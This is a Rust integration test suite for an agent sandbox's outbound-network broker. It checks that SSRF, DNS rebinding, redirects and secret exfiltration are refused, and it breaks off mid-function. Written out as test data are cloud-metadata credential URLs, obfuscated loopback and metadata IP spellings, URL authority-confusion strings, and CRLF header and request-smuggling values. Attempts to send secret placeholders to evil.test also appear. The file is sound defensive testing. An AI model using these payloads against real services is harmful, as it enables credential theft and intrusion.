//! Mediated egress against a network of its own (catalog §2.4, SSRF cases): the
//! `rs_fetch` probe asks the host for requests; every case asserts the denial (or
//! the allowed answer) *and* that every forbidden service saw zero hits.
//!
//! Runs without the libtest harness: `main` enters new network and mount
//! namespaces (and a user namespace when not root) while still single-threaded.

mod common;
mod netlab;

use common::*;
use netlab::*;
use serde_json::{Value, json};
use std::net::SocketAddr;
use std::sync::Arc;

struct Lab {
    sb: Sandbox,
    /// The fake world (`agentbox_breakout::netlab::World`).
    w: World,
}

/// The secret value used by the SEC cases (as it would be in a token file).
const TOKEN: &str = "tok_9f8e7d6c5b4a3210-SECRET/value+x";
const SECOND: &str = "sec2_0123456789abcdefSECOND";

fn sa(s: &str) -> SocketAddr {
    s.parse().unwrap_or_else(|e| panic!("{s}: {e}"))
}

impl Lab {
    fn new() -> Self {
        let w = World::start(&[("api.github.com", API)]).expect("the fake world");
        start_dns(w.zone.clone()).expect("DNS responder");
        let sb = Sandbox::new();
        sb.write("ca.pem", &w.ca_pem);
        sb.write_bytes(
            "rs_fetch.wasm",
            &std::fs::read(fixture("rs_fetch")).expect("rs_fetch"),
        );
        use std::os::unix::fs::PermissionsExt;
        for (file, value) in [("token", TOKEN), ("second", SECOND)] {
            let p = sb.write(file, &format!("{value}\n"));
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o600)).expect("chmod");
        }
        sb.write(
            "secrets.toml",
            "[secrets.TOKEN]\nfile = \"token\"\n[secrets.SECOND]\nfile = \"second\"\n",
        );
        Self { sb, w }
    }

    /// A manifest for the probe with these net grants (allow, methods, private)
    /// and extra TOML.
    fn manifest(&self, grants: &[(&str, &[&str], bool)], extra: &str) {
        let mut m = String::from(
            "version = 1\n[tools.probe]\ncomponent = \"rs_fetch.wasm\"\nrationale = \"egress tests\"\n",
        );
        for (allow, methods, private) in grants {
            m.push_str(&format!(
                "[[tools.probe.net]]\nallow = \"{allow}\"\nmethods = {}\nprivate = {private}\nrationale = \"test\"\n",
                serde_json::to_string(methods).expect("methods")
            ));
        }
        m.push_str(extra);
        self.sb.manifest(&m);
    }

    /// Runs the probe with these requests; returns (results, report, audit lines).
    fn run(&self, requests: Value) -> (Out, Vec<Value>, Value, Vec<Value>) {
        self.run_with(requests, &[])
    }

    fn run_with(&self, requests: Value, extra: &[&str]) -> (Out, Vec<Value>, Value, Vec<Value>) {
        let _ = std::fs::remove_file(self.sb.path("a.jsonl"));
        let input = json!({ "requests": requests }).to_string();
        let mut args = vec![
            "--input",
            &input,
            "--audit",
            "a.jsonl",
            "--extra-ca",
            "ca.pem",
        ];
        args.extend_from_slice(extra);
        let (out, report) = self.sb.run_report(&args);
        let results = serde_json::from_str::<Value>(&out.stdout)
            .ok()
            .and_then(|v| v.as_array().cloned())
            .unwrap_or_default();
        let audit = std::fs::read_to_string(self.sb.path("a.jsonl"))
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect();
        (out, results, report, audit)
    }

    fn forbidden_untouched(&self) -> Result<(), String> {
        self.w.forbidden_untouched(false)
    }

    fn reset(&self) {
        self.w.reset();
    }
}

fn get(url: &str) -> Value {
    json!({"method": "GET", "url": url, "timeout_ms": 3000})
}

/// Every result is an error of `kind`.
fn all_errors(results: &[Value], n: usize, kind: &str) -> Result<(), String> {
    if results.len() != n {
        return Err(format!("expected {n} results, got {results:?}"));
    }
    for r in results {
        if r["error"] != kind {
            return Err(format!("expected error {kind}, got {r}"));
        }
    }
    Ok(())
}

fn check(cond: bool, what: impl FnOnce() -> String) -> Result<(), String> {
    if cond { Ok(()) } else { Err(what()) }
}

type Case = fn(&Lab) -> Result<(), String>;

/// The lab works: allowed requests succeed over http and https (test CA), with
/// Host and SNI from the URL, and are audited with their rule.
fn allowed_requests_work(lab: &Lab) -> Result<(), String> {
    lab.manifest(
        &[
            ("http://allowed.test", &["GET"], false),
            ("https://api.allowed.test/v1", &["GET", "POST"], false),
        ],
        "",
    );
    let (out, r, report, audit) = lab.run(json!([
        get("http://allowed.test/echo"),
        {"method": "POST", "url": "https://api.allowed.test/v1/echo", "body": "payload", "headers": [["x-test", "1"]]},
    ]));
    check(out.code == 0, || format!("{out:?}"))?;
    check(
        r.len() == 2 && r[0]["status"] == 200 && r[1]["status"] == 200,
        || format!("{r:?}"),
    )?;
    let echo = r[0]["body"].as_str().unwrap_or("");
    check(
        echo.contains("host: allowed.test\r\n") || echo.contains("Host: allowed.test\r\n"),
        || echo.to_string(),
    )?;
    let tls = lab.w.api_tls.text();
    check(
        tls.contains("POST /v1/echo HTTP/1.1") && tls.contains("payload"),
        || tls.clone(),
    )?;
    check(
        report["http"]["allowed"] == 2 && report["http"]["denied"] == 0,
        || report.to_string(),
    )?;
    let reqs: Vec<&Value> = audit
        .iter()
        .filter(|e| e["event"] == "http_request")
        .collect();
    check(reqs.len() == 2, || format!("{audit:?}"))?;
    check(
        reqs[0]["decision"] == "allowed"
            && reqs[0]["reason"] == "net[0]: http://allowed.test"
            && reqs[0]["address"] == format!("{ALLOWED}:80"),
        || format!("{:?}", reqs[0]),
    )?;
    check(
        reqs[1]["reason"] == "net[1]: https://api.allowed.test/v1" && reqs[1]["status"] == 200,
        || format!("{:?}", reqs[1]),
    )?;
    // Ambient proxy variables are never used: the requests still go straight to
    // the vetted address, and the "proxy" sees nothing.
    let input = json!({"requests": [get("http://allowed.test/echo"), get("https://api.allowed.test/v1/echo")]}).to_string();
    let o = lab
        .sb
        .cmd()
        .env("HTTP_PROXY", "http://evil.test:80")
        .env("HTTPS_PROXY", "http://evil.test:80")
        .env("ALL_PROXY", "http://evil.test:80")
        .env("http_proxy", "http://evil.test:80")
        .env("https_proxy", "http://evil.test:80")
        .args([
            "run",
            "agentbox.toml",
            "--input",
            &input,
            "--extra-ca",
            "ca.pem",
        ])
        .output()
        .map_err(|e| e.to_string())?;
    let r: Value = serde_json::from_slice(&o.stdout).unwrap_or(Value::Null);
    check(r[0]["status"] == 200 && r[1]["status"] == 200, || {
        format!("{r} {}", String::from_utf8_lossy(&o.stderr))
    })?;
    lab.forbidden_untouched()
}

/// SSRF-01: internal targets named directly, each covered by a grant (so the
/// address check, not the grant, is what refuses them).
fn ssrf01_internal_targets(lab: &Lab) -> Result<(), String> {
    let urls = [
        "http://169.254.169.254/latest/meta-data/",
        "http://169.254.170.2/v2/credentials",
        "http://[fd00:ec2::254]/",
        "http://100.100.100.200/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://127.0.0.1:8080/",
        "http://[::1]:8080/",
        "http://0.0.0.0/",
        "http://10.0.0.1/",
    ];
    let grants: Vec<(&str, &[&str], bool)> = [
        "http://169.254.169.254",
        "http://169.254.170.2",
        "http://[fd00:ec2::254]",
        "http://100.100.100.200",
        "http://metadata.google.internal",
        "http://127.0.0.1:8080",
        "http://[::1]:8080",
        "http://0.0.0.0",
        "http://10.0.0.1",
    ]
    .into_iter()
    .map(|g| (g, &["GET"][..], false))
    .collect();
    lab.manifest(&grants, "");
    let (_, r, report, _) = lab.run(Value::Array(urls.iter().map(|u| get(u)).collect()));
    all_errors(&r, urls.len(), "denied")?;
    check(report["http"]["denied"] == urls.len(), || {
        report.to_string()
    })?;
    check(lab.w.loopback.hits() == 0, || {
        "loopback listener reached".into()
    })?;
    lab.forbidden_untouched()
}

/// SSRF-02: other spellings of the metadata and loopback addresses are normalised
/// by the one parser and then refused.
fn ssrf02_alternative_spellings(lab: &Lab) -> Result<(), String> {
    lab.manifest(
        &[
            ("http://169.254.169.254", &["GET"], false),
            ("http://127.0.0.1:8080", &["GET"], false),
        ],
        "",
    );
    let urls = [
        "http://2852039166/",
        "http://0xA9FEA9FE/",
        "http://0251.0376.0251.0376/",
        "http://169.254.43518/",
        "http://0xa9.254.0251.0xfe/",
        "http://127.1:8080/",
        "http://0x7f.1:8080/",
        "http://017700000001:8080/",
    ];
    let (_, r, _, _) = lab.run(Value::Array(urls.iter().map(|u| get(u)).collect()));
    all_errors(&r, urls.len(), "denied")?;
    check(lab.w.loopback.hits() == 0, || {
        "loopback listener reached".into()
    })?;
    lab.forbidden_untouched()
}

/// SSRF-04 and SSRF-14: an allowed name resolving to a forbidden address, to a
/// mix of allowed and forbidden ones, or (AAAA) to a unique-local one.
fn ssrf04_names_resolving_inside(lab: &Lab) -> Result<(), String> {
    lab.manifest(&[("http://*.allowed.test", &["GET"], false)], "");
    let urls = [
        "http://rebind.allowed.test/",
        "http://loop.allowed.test:80/",
        "http://internal.allowed.test/",
        "http://mixed.allowed.test/",
        "http://dual.allowed.test/",
        "http://ula.allowed.test/",
    ];
    let (_, r, _, audit) = lab.run(Value::Array(urls.iter().map(|u| get(u)).collect()));
    all_errors(&r, urls.len(), "denied")?;
    check(lab.w.allowed.hits() == 0, || {
        "the mixed set's public address was used".into()
    })?;
    let reasons: Vec<String> = audit
        .iter()
        .filter(|e| e["event"] == "http_request")
        .map(|e| e["reason"].as_str().unwrap_or("").to_string())
        .collect();
    check(
        reasons
            .iter()
            .any(|r| r.contains("169.254.169.254, a cloud metadata address")),
        || format!("{reasons:?}"),
    )?;
    check(
        reasons
            .iter()
            .any(|r| r.contains("fd00::1, a unique-local address")),
        || format!("{reasons:?}"),
    )?;
    lab.forbidden_untouched()
}

/// DNS rebinding: a name that flips between a public and a loopback answer. Each
/// request is resolved once and sent to the address that was checked.
fn rebinding_flip_flop(lab: &Lab) -> Result<(), String> {
    lab.manifest(&[("http://flip.allowed.test", &["GET"], false)], "");
    let reqs: Vec<Value> = (0..6).map(|_| get("http://flip.allowed.test/")).collect();
    let (_, r, _, _) = lab.run(Value::Array(reqs));
    let ok = r.iter().filter(|x| x["status"] == 200).count();
    let denied = r.iter().filter(|x| x["error"] == "denied").count();
    check(ok + denied == 6 && ok >= 1 && denied >= 1, || {
        format!("{r:?}")
    })?;
    check(lab.w.allowed.hits() as usize == ok, || {
        format!("{} hits for {ok} answers", lab.w.allowed.hits())
    })?;
    lab.forbidden_untouched()
}

/// SSRF-06: authority confusion never reaches evil.test.
fn ssrf06_authority_confusion(lab: &Lab) -> Result<(), String> {
    lab.manifest(&[("https://allowed.test", &["GET"], false)], "");
    let urls = [
        "https://allowed.test@evil.test/",
        "https://allowed.test:443@evil.test/",
        "https://evil.test\\@allowed.test/",
        "https://evil.test#@allowed.test",
        "https://evil.test\t.allowed.test/",
        "https://allowed.test\r\n.evil.test/",
    ];
    let (_, r, _, _) = lab.run(Value::Array(urls.iter().map(|u| get(u)).collect()));
    all_errors(&r, urls.len(), "invalid-request")?;
    // `?@` keeps evil.test as the host: no grant covers it.
    let (_, r, _, _) = lab.run(json!([get("https://evil.test?@allowed.test")]));
    all_errors(&r, 1, "denied")?;
    lab.forbidden_untouched()
}

/// SSRF-08: redirects are new requests, each checked; a hop outside the grants
/// is refused before it is sent; loops stop at the hop cap.
fn ssrf08_redirects(lab: &Lab) -> Result<(), String> {
    lab.manifest(&[("http://allowed.test", &["GET", "POST"], false)], "");
    let to = |t: &str, code: u16| get(&format!("http://allowed.test/redirect?code={code}&to={t}"));
    let (_, r, _, audit) = lab.run(json!([
        to("http://169.254.169.254/", 302),
        to("http://evil.test/", 301),
        to("https://allowed.test/", 307),
        to("file:///etc/passwd", 302),
        to("data:text/plain,x", 308),
        to("//evil.test/", 303),
        to("http://2852039166/", 302),
    ]));
    all_errors(&r, 7, "denied")?;
    let hops: Vec<&Value> = audit
        .iter()
        .filter(|e| e["event"] == "http_request" && e["redirect"] == 1)
        .collect();
    check(
        hops.len() == 7 && hops.iter().all(|h| h["decision"] == "denied"),
        || format!("{hops:?}"),
    )?;
    // A same-grant redirect is followed; a loop stops after the cap.
    let (_, r, _, _) = lab.run(json!([to("/echo", 302), get("http://allowed.test/loop/0")]));
    check(r.len() == 2 && r[0]["status"] == 200, || format!("{r:?}"))?;
    check(
        r[1]["error"] == "denied" && r[1]["reason"].as_str().unwrap_or("").contains("redirects"),
        || format!("{r:?}"),
    )?;
    lab.forbidden_untouched()
}

/// SSRF-09: other schemes and ungranted ports are refused before connecting.
fn ssrf09_schemes_and_ports(lab: &Lab) -> Result<(), String> {
    lab.manifest(&[("https://api.allowed.test", &["GET"], false)], "");
    let invalid = [
        "gopher://api.allowed.test/",
        "file:///etc/passwd",
        "ftp://api.allowed.test/",
        "ws://api.allowed.test/",
        "http+unix://%2Ftmp%2Fs/",
        "https://api.allowed.test:0/",
        "https://api.allowed.test:65536/",
    ];
    let (_, r, _, _) = lab.run(Value::Array(invalid.iter().map(|u| get(u)).collect()));
    all_errors(&r, invalid.len(), "invalid-request")?;
    let denied = [
        "https://api.allowed.test:6379/",
        "http://api.allowed.test:6379/",
        "https://api.allowed.test:22/",
        "http://api.allowed.test/",
    ];
    let (_, r, _, _) = lab.run(Value::Array(denied.iter().map(|u| get(u)).collect()));
    all_errors(&r, denied.len(), "denied")?;
    lab.forbidden_untouched()
}

/// SSRF-10 and SSRF-13: Host, framing and proxy headers, CR/LF and odd methods
/// are refused by the host before anything is sent.
fn ssrf10_13_headers_and_smuggling(lab: &Lab) -> Result<(), String> {
    lab.manifest(&[("http://allowed.test", &["GET", "POST"], false)], "");
    let with = |h: &[(&str, &str)]| {
        json!({"method": "POST", "url": "http://allowed.test/echo", "body": "x",
               "headers": h.iter().map(|(n, v)| json!([n, v])).collect::<Vec<_>>()})
    };
    let (_, r, _, _) = lab.run(json!([
        with(&[("Host", "evil.test")]),
        with(&[("X-Forwarded-Host", "evil.test")]),
        with(&[("Connection", "upgrade")]),
        with(&[("Transfer-Encoding", "chunked")]),
        with(&[("Content-Length", "0")]),
        with(&[("Proxy-Authorization", "x")]),
        with(&[("Upgrade", "h2c")]),
        with(&[("TE", "trailers")]),
        with(&[("Accept-Encoding", "gzip")]),
        with(&[("Range", "bytes=0-15")]),
        with(&[("x-a", "v\r\nHost: evil.test")]),
        with(&[("x-a\r\nHost", "v")]),
        with(&[("x-a", "v\0")]),
        {"method": "GET /admin HTTP/1.1\r\nHost: evil.test\r\n\r\nGET", "url": "http://allowed.test/"},
        {"method": "CONNECT", "url": "http://allowed.test/"},
    ]));
    all_errors(&r, 15, "invalid-request")?;
    check(lab.w.allowed.hits() == 0, || lab.w.allowed.text())?;
    lab.forbidden_untouched()
}

/// Limits: http_requests, http_bytes (an endless body), and the timeout.
fn limits_budgets_and_timeouts(lab: &Lab) -> Result<(), String> {
    lab.manifest(
        &[("http://allowed.test", &["GET"], false)],
        "[tools.probe.limits]\nhttp_requests = 2\n",
    );
    let (out, r, report, _) = lab.run(json!([
        get("http://allowed.test/"),
        get("http://allowed.test/"),
        get("http://allowed.test/")
    ]));
    check(
        out.code == 137 && report["outcome"] == "limit" && report["limit"] == "http_requests",
        || format!("{out:?} {report}"),
    )?;
    check(r.is_empty(), || format!("output after a limit: {r:?}"))?;
    check(lab.w.allowed.hits() == 2, || {
        format!("{} hits", lab.w.allowed.hits())
    })?;
    lab.manifest(
        &[("http://allowed.test", &["GET"], false)],
        "[tools.probe.limits]\nhttp_bytes = \"1MiB\"\n",
    );
    let (out, _, report, _) = lab.run(json!([get("http://allowed.test/endless")]));
    check(out.code == 137 && report["limit"] == "http_bytes", || {
        format!("{out:?} {report}")
    })?;
    lab.manifest(&[("http://allowed.test", &["GET"], false)], "");
    let (out, r, _, _) =
        lab.run(json!([{"method": "GET", "url": "http://allowed.test/slow", "timeout_ms": 300}]));
    check(
        out.code == 0 && r.len() == 1 && r[0]["error"] == "timeout",
        || format!("{out:?} {r:?}"),
    )?;
    lab.forbidden_untouched()
}

/// `private = true` admits a private target for that rule only.
fn private_rule_admits_only_its_target(lab: &Lab) -> Result<(), String> {
    lab.manifest(
        &[
            ("http://127.0.0.1:8080", &["GET"], true),
            ("http://169.254.169.254", &["GET"], false),
        ],
        "",
    );
    let (_, r, _, _) = lab.run(json!([
        get("http://127.0.0.1:8080/"),
        get("http://169.254.169.254/")
    ]));
    check(
        r.len() == 2 && r[0]["status"] == 200 && r[1]["error"] == "denied",
        || format!("{r:?}"),
    )?;
    check(lab.w.loopback.hits() == 1, || {
        "loopback not reached once".into()
    })?;
    lab.forbidden_untouched()
}

/// TLS: a certificate from an untrusted CA is refused without --extra-ca; no
/// cleartext fallback.
fn tls_needs_a_trusted_ca(lab: &Lab) -> Result<(), String> {
    lab.manifest(&[("https://allowed.test", &["GET"], false)], "");
    let input = json!({"requests": [get("https://allowed.test/")]}).to_string();
    let (out, _) = lab.sb.run_report(&["--input", &input]);
    let r: Value = serde_json::from_str(&out.stdout).unwrap_or(Value::Null);
    check(
        r[0]["error"] == "transport" && r[0]["reason"].as_str().unwrap_or("").contains("TLS"),
        || format!("{out:?}"),
    )?;
    check(
        lab.w.allowed.hits() == 0 && lab.w.allowed_tls.hits() == 0,
        || "request completed".into(),
    )?;
    lab.forbidden_untouched()
}

/// The SEC manifest: TOKEN injected as `Authorization: Bearer` toward
/// https://api.allowed.test only; SECOND usable as a placeholder there, in any
/// header; allowed.test, evil.test and http://api.allowed.test reachable too.
fn sec_manifest(lab: &Lab) {
    lab.manifest(
        &[
            ("https://api.allowed.test", &["GET", "POST"], false),
            ("http://api.allowed.test", &["GET"], false),
            ("https://allowed.test", &["GET"], false),
            ("https://evil.test", &["GET", "POST"], false),
        ],
        "[[tools.probe.secrets]]\nname = \"TOKEN\"\nallow = [\"https://api.allowed.test\"]\nheader = \"Authorization\"\nformat = \"Bearer {}\"\nrationale = \"test\"\n\
         [[tools.probe.secrets]]\nname = \"SECOND\"\nallow = [\"https://api.allowed.test\"]\nrationale = \"test\"\n",
    );
}

fn secret_forms() -> Vec<String> {
    use base64::Engine;
    let mut forms = Vec::new();
    for v in [TOKEN, SECOND] {
        forms.push(v.to_string());
        forms.push(hex::encode(v));
        forms.push(hex::encode_upper(v));
        for e in [
            &base64::engine::general_purpose::STANDARD,
            &base64::engine::general_purpose::URL_SAFE_NO_PAD,
        ] {
            // The encoding of the value alone, minus its last (partial) group.
            let enc = e.encode(v);
            forms.push(enc[..enc.len() - 4].to_string());
        }
        forms.push(v.bytes().map(|c| format!("%{c:02X}")).collect());
    }
    forms
}

/// None of the forms of either secret in `what`.
fn no_secret(what: &str, label: &str) -> Result<(), String> {
    for f in secret_forms() {
        if what.contains(&f) {
            return Err(format!("{label} carries a secret form `{f}`"));
        }
    }
    Ok(())
}

/// Everything that left the supervisor for the caller: stdout, stderr, report,
/// audit log.
fn nothing_leaked(lab: &Lab, out: &Out) -> Result<(), String> {
    no_secret(&out.stdout, "stdout")?;
    no_secret(&out.stderr, "stderr")?;
    no_secret(
        &std::fs::read_to_string(lab.sb.path("report.json")).unwrap_or_default(),
        "report",
    )?;
    no_secret(
        &std::fs::read_to_string(lab.sb.path("a.jsonl")).unwrap_or_default(),
        "audit log",
    )
}

/// SEC-05/SEC-10: the secret is injected toward its host only, and the echoed
/// value — raw, base64, hex, percent-encoded, in headers and body — is removed
/// before the guest sees it; nothing of it in output, report or audit.
fn sec05_injection_and_reflection(lab: &Lab) -> Result<(), String> {
    sec_manifest(lab);
    // `reverse`: the guest returns what it saw reversed, so that only the host's
    // scrubbing of the response (not of the final output) can hide the value.
    let (out, r, report, audit) = lab.run_with(
        json!([
            {"method": "GET", "url": "https://api.allowed.test/echo", "reverse": true},
            {"method": "GET", "url": "https://api.allowed.test/echo-encoded", "reverse": true},
            {"method": "GET", "url": "https://api.allowed.test/echo", "headers": [["X-Key", "k={{secret:SECOND}}"]], "reverse": true},
        ]),
        &["--secrets", "secrets.toml"],
    );
    check(out.code == 0 && r.len() == 3, || format!("{out:?}"))?;
    check(r.iter().all(|x| x["status"] == 200), || format!("{r:?}"))?;
    let seen = lab.w.api_tls.text();
    check(
        seen.contains(&format!("authorization: Bearer {TOKEN}")),
        || seen.clone(),
    )?;
    check(seen.contains(&format!("x-key: k={SECOND}")), || {
        seen.clone()
    })?;
    let guest_view: String = serde_json::to_string(&r)
        .unwrap_or_default()
        .chars()
        .rev()
        .collect();
    no_secret(&guest_view, "the guest's view of the responses")?;
    check(guest_view.contains("[REDACTED]"), || guest_view.clone())?;
    nothing_leaked(lab, &out)?;
    check(
        report["secrets_used"]["TOKEN"] == 3 && report["secrets_used"]["SECOND"] == 1,
        || report.to_string(),
    )?;
    let uses: Vec<&Value> = audit
        .iter()
        .filter(|e| e["event"] == "secret_use")
        .collect();
    check(
        uses.len() == 4
            && uses[0]["name"] == "TOKEN"
            && uses[0]["destination"] == "https://api.allowed.test/echo",
        || format!("{uses:?}"),
    )?;
    lab.forbidden_untouched()
}

/// SEC-02/SEC-04/SEC-12: a placeholder toward a host it is not bound to, in the
/// URL, the body, a header name, the wrong header, split or encoded — refused, with
/// one uniform answer for unknown, unbound and near-miss names.
fn sec02_04_12_placeholders_go_nowhere(lab: &Lab) -> Result<(), String> {
    sec_manifest(lab);
    let h = |url: &str, name: &str, value: &str| json!({"method": "GET", "url": url, "headers": [[name, value]]});
    let (out, r, _, _) = lab.run_with(
        json!([
            h("https://evil.test/", "X-Key", "{{secret:SECOND}}"),
            h(
                "https://evil.test/",
                "Authorization",
                "Bearer {{secret:TOKEN}}"
            ),
            h("https://api.allowed.test/", "X-Key", "{{secret:NOPE}}"),
            h("https://api.allowed.test/", "X-Key", "{{secret:second}}"),
            h("https://api.allowed.test/", "X-Key", "{{secret:SECOND }}"),
            h(
                "https://api.allowed.test/",
                "X-Key",
                "{{secret:{{secret:SECOND}}}}"
            ),
            h("https://api.allowed.test/", "X-Other", "{{secret:TOKEN}}"),
            h("https://api.allowed.test/", "{{secret:SECOND}}", "x"),
            h("https://api.allowed.test/", "X-Key", "{{secret:SEC"),
            h(
                "https://api.allowed.test/",
                "X-Key",
                "%7B%7Bsecret:SECOND%7D%7D"
            ),
            h("http://api.allowed.test/", "X-Key", "{{secret:SECOND}}"),
        ]),
        &["--secrets", "secrets.toml"],
    );
    check(out.code == 0, || format!("{out:?}"))?;
    all_errors(&r, 11, "invalid-request")?;
    let reasons: std::collections::BTreeSet<String> = r
        .iter()
        .map(|x| x["reason"].as_str().unwrap_or("").to_string())
        .collect();
    check(reasons.len() <= 2, || {
        format!("distinguishable answers: {reasons:?}")
    })?;
    let (_, r, _, _) = lab.run_with(
        json!([
            get("https://api.allowed.test/x?k={{secret:SECOND}}"),
            get("https://api.allowed.test/{{secret:SECOND}}"),
            {"method": "POST", "url": "https://api.allowed.test/", "body": "k={{secret:SECOND}}"},
            {"method": "POST", "url": "https://api.allowed.test/", "body": "k=%7b%7bsecret:SECOND%7d%7d"},
        ]),
        &["--secrets", "secrets.toml"],
    );
    all_errors(&r, 4, "invalid-request")?;
    check(
        lab.w.api_tls.hits() == 0 && lab.w.api_http.hits() == 0,
        || lab.w.api_tls.text(),
    )?;
    nothing_leaked(lab, &out)?;
    lab.forbidden_untouched()
}

/// SEC-06: a secret-bearing request redirected to another origin, another
/// allowed host or cleartext: the secret does not follow.
fn sec06_redirects_do_not_carry_secrets(lab: &Lab) -> Result<(), String> {
    sec_manifest(lab);
    let redirect = |to: &str| {
        get(&format!(
            "https://api.allowed.test/redirect?code=307&to={to}"
        ))
    };
    let (out, r, _, _) = lab.run_with(
        json!([
            redirect("https://evil.test/echo"),
            redirect("https://allowed.test/echo"),
            redirect("http://api.allowed.test/echo"),
            {"method": "GET", "url": "https://api.allowed.test/redirect?code=308&to=https://allowed.test/echo",
             "headers": [["X-Key", "{{secret:SECOND}}"]]},
        ]),
        &["--secrets", "secrets.toml"],
    );
    check(out.code == 0 && r.len() == 4, || format!("{out:?}"))?;
    check(
        r[0]["status"] == 200 && r[1]["status"] == 200 && r[2]["status"] == 200,
        || format!("{r:?}"),
    )?;
    check(r[3]["error"] == "invalid-request", || format!("{r:?}"))?;
    // The first hop carried the secret; none of the second hops did.
    check(lab.w.api_tls.text().contains(TOKEN), || {
        "not injected on the first hop".into()
    })?;
    no_secret(&lab.w.evil_tls.text(), "evil.test's log")?;
    no_secret(&lab.w.allowed_tls.text(), "allowed.test's log")?;
    no_secret(&lab.w.api_http.text(), "http://api.allowed.test's log")?;
    nothing_leaked(lab, &out)?;
    // evil.test was reached (it is granted here), but learned nothing.
    Ok(())
}

/// Item 5: a guest written against standard `wasi:http/outgoing-handler` goes
/// through the same broker, grants, address checks and audit.
fn wasi_http_is_mediated_identically(lab: &Lab) -> Result<(), String> {
    lab.sb.write_bytes(
        "rs_wasi_http.wasm",
        &std::fs::read(fixture("rs_wasi_http")).map_err(|e| e.to_string())?,
    );
    lab.sb.manifest(
        "version = 1\n[tools.probe]\ncomponent = \"rs_wasi_http.wasm\"\nrationale = \"egress tests\"\n\
         [[tools.probe.net]]\nallow = \"http://allowed.test\"\nrationale = \"t\"\n\
         [[tools.probe.net]]\nallow = \"http://169.254.169.254\"\nrationale = \"t\"\n\
         [[tools.probe.net]]\nallow = \"http://*.allowed.test\"\nrationale = \"t\"\n",
    );
    let (out, r, report, audit) = lab.run(json!([
        {"url": "http://allowed.test/echo"},
        {"url": "http://169.254.169.254/latest/meta-data/"},
        {"url": "http://rebind.allowed.test/"},
        {"url": "http://evil.test/"},
        {"url": "https://allowed.test/"},
    ]));
    check(out.code == 0 && r.len() == 5, || format!("{out:?}"))?;
    check(r[0]["status"] == 200, || format!("{r:?}"))?;
    let echo = r[0]["body"].as_str().unwrap_or("");
    check(
        echo.contains("GET /echo HTTP/1.1")
            && echo.to_ascii_lowercase().contains("host: allowed.test"),
        || echo.to_string(),
    )?;
    for x in &r[1..] {
        check(x["error"] == "ErrorCode::HttpRequestDenied", || {
            format!("{r:?}")
        })?;
    }
    check(
        report["http"]["allowed"] == 1 && report["http"]["denied"] == 4,
        || report.to_string(),
    )?;
    let reqs = audit
        .iter()
        .filter(|e| e["event"] == "http_request")
        .count();
    check(reqs == 5, || format!("{audit:?}"))?;
    check(
        lab.w.allowed.hits() == 1 && lab.w.allowed_tls.hits() == 0,
        || "allowed hits".into(),
    )?;
    lab.forbidden_untouched()
}

/// CAP-01/CAP-03: a guest that goes around the host function with wasi:sockets
/// (Python's socket module: TCP connect, UDP send, name lookup) toward a listener
/// in the lab: every attempt fails and the listener counts nothing.
fn cap01_03_sockets_are_not_linked(lab: &Lab) -> Result<(), String> {
    lab.sb.write_bytes(
        "py_net.wasm",
        &std::fs::read(fixture("py_net")).map_err(|e| e.to_string())?,
    );
    lab.sb.manifest(
        "version = 1\n[tools.net]\ncomponent = \"py_net.wasm\"\nrationale = \"probe\"\n\
         [tools.net.limits]\nmemory = \"64MiB\"\ntimeout = \"20s\"\ncpu = \"10s\"\n\
         [[tools.net.net]]\nallow = \"http://allowed.test\"\nrationale = \"a grant does not open sockets\"\n",
    );
    let input = json!({"host": ALLOWED, "port": 9}).to_string();
    let (out, _) = lab.sb.run_report(&["--input", &input]);
    check(out.code == 0, || format!("{out:?}"))?;
    let v: Value = serde_json::from_str(&out.stdout).map_err(|e| format!("{e}: {out:?}"))?;
    for k in ["tcp", "udp", "dns"] {
        let r = v[k].as_str().unwrap_or("ok");
        check(r != "ok", || format!("{k} succeeded: {v}"))?;
    }
    std::thread::sleep(std::time::Duration::from_millis(100));
    check(
        lab.w.raw.load(std::sync::atomic::Ordering::SeqCst) == 0,
        || "the raw listener was reached".into(),
    )?;
    lab.forbidden_untouched()
}

/// SEC-01: the secret value is never in the worker process. A pooled worker makes
/// a secret-bearing request (the server echoes the token back), stays alive, and
/// every readable mapping of its memory is scanned for the value.
fn sec01_secret_never_in_worker_memory(lab: &Lab) -> Result<(), String> {
    use agentbox_supervisor::{Options, Supervisor};
    sec_manifest(lab);
    let manifest = agentbox_policy::Manifest::load(&lab.sb.path("agentbox.toml"))
        .map_err(|e| e.to_string())?;
    let tool = manifest.tool(None).map_err(|e| e.to_string())?.clone();
    let store = agentbox_secrets::SecretStore::load(&lab.sb.path("secrets.toml"))
        .map_err(|e| e.to_string())?;
    let sup = Supervisor::new(&Options {
        cache_dir: Some(lab.sb.path("cache/c")),
        worker_exe: Some(worker_bin()),
        compile_exe: Some(std::path::PathBuf::from(bin())),
        extra_ca: Some(lab.sb.path("ca.pem")),
        secrets: Some(Arc::new(store)),
        ..Options::default()
    })
    .map_err(|e| e.to_string())?;
    let pool = sup.pool(&tool, 1)?;
    let inv = agentbox_host::Invocation {
        input: json!({"requests": [get("https://api.allowed.test/echo"), get("https://api.allowed.test/echo-encoded")]}).to_string(),
        ..Default::default()
    };
    let out = pool.invoke(&inv, Arc::new(agentbox_audit::AuditLog::memory("sec01")));
    check(out.status == 0, || format!("{:?}", out.report))?;
    check(lab.w.api_tls.text().contains(TOKEN), || {
        "the request did not carry the token".into()
    })?;
    let pids = pool.idle_worker_pids();
    check(!pids.is_empty(), || "no idle worker to inspect".into())?;
    for pid in pids {
        let maps =
            std::fs::read_to_string(format!("/proc/{pid}/maps")).map_err(|e| e.to_string())?;
        let mut mem = std::fs::File::open(format!("/proc/{pid}/mem"))
            .map_err(|e| format!("open mem of {pid}: {e}"))?;
        let mut scanned = 0usize;
        for line in maps.lines() {
            let mut f = line.split_whitespace();
            let (Some(range), Some(perms)) = (f.next(), f.next()) else {
                continue;
            };
            if !perms.starts_with('r') {
                continue;
            }
            let (a, b) = range.split_once('-').unwrap_or(("0", "0"));
            let (a, b) = (
                u64::from_str_radix(a, 16).unwrap_or(0),
                u64::from_str_radix(b, 16).unwrap_or(0),
            );
            if b <= a || b - a > (1 << 30) || line.contains("[vvar") || line.contains("[vsyscall") {
                continue;
            }
            use std::io::{Read, Seek, SeekFrom};
            let mut buf = vec![0u8; (b - a) as usize];
            if mem.seek(SeekFrom::Start(a)).is_err() || mem.read_exact(&mut buf).is_err() {
                continue;
            }
            scanned += buf.len();
            for form in secret_forms() {
                if buf.windows(form.len()).any(|w| w == form.as_bytes()) {
